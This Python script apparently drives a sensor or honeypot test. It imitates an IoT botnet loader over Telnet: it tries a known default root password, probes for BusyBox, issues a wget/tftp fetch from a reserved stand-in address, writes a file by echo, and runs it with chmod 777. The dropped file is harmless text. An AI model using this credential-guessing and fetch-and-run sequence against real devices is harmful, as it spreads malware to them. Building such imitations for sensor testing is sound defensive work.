"""A harmless imitation of what a loader does to a device over Telnet: guess, look around, leave a file.

It speaks to the address that it is given and to nothing else. The file that it leaves is a line of text.
"""

import argparse
import socket

TEXT = b"this is a harmless file of the demo\n"
PATIENCE_S = 30


class Telnet:
    """Just enough of a Telnet client: it ignores options and shows what is said."""

    def __init__(self, address, port):
        self.socket = socket.create_connection((address, port), timeout=PATIENCE_S)

    def until(self, *ends):
        """What the device says, up to one of `ends`."""
        said = b""
        while not any(said.rstrip(b" ").endswith(end) for end in ends):
            more = self.socket.recv(4096)
            if not more:
                raise SystemExit(f"the device hung up after {said!r}")
            said += more
        return said

    def say(self, line):
        self.socket.sendall(line + b"\r\n")

    def log_in(self, user, password):
        """Whether it was let in."""
        self.say(user)
        self.until(b"assword:")
        self.say(password)
        return self.until(b"login:", b"#", b"$").rstrip(b" ").endswith((b"#", b"$"))

    def run(self, command):
        self.say(command)
        said = self.until(b"#", b"$").decode("utf-8", "replace")
        lines = said.replace("\r", "").split("\n")[1:-1]
        print(f"$ {command.decode()[:100]}", *(f"  {line}" for line in lines[:3]), sep="\n", flush=True)
        return "\n".join(lines)


def main():
    arguments = argparse.ArgumentParser(description=__doc__)
    arguments.add_argument("--address", required=True)
    arguments.add_argument("--port", type=int, required=True)
    given = arguments.parse_args()

    device = Telnet(given.address, given.port)
    device.until(b"login:")
    for user, password in [(b"admin", b"no-such-password"), (b"root", b"xc3511")]:
        accepted = device.log_in(user, password)
        print(f"{user.decode()}: {'accepted' if accepted else 'refused'}", flush=True)
    if not accepted:
        raise SystemExit("the device did not let the attacker in")

    for word in [b"enable", b"system", b"shell", b"sh"]:
        device.run(word)
    if "applet not found" not in device.run(b"/bin/busybox KOMAINU"):
        raise SystemExit("this is no device with BusyBox")
    if "tmpfs" not in device.run(b"cat /proc/mounts"):
        raise SystemExit("there is no place to write to")
    device.run(b"cd /tmp")
    device.run(b"dd bs=52 count=1 if=/bin/echo | hexdump -C")
    # 192.0.2.1 is nobody (RFC 5737), and a sensor fetches nothing.
    device.run(b"wget http://192.0.2.1/demo.arm7 -O .d; tftp -g -r demo.arm7 192.0.2.1")
    for begin in range(0, len(TEXT), 16):
        escaped = "".join(f"\\x{byte:02x}" for byte in TEXT[begin : begin + 16])
        device.run(f"echo -ne '{escaped}' {'>' if begin == 0 else '>>'} .d".encode())
    if device.run(b"cat .d").encode() + b"\n" != TEXT:
        raise SystemExit("the file is not what was written")
    device.run(b"chmod 777 .d; ./.d")
    device.say(b"exit")
    print("done", flush=True)


if __name__ == "__main__":
    main()
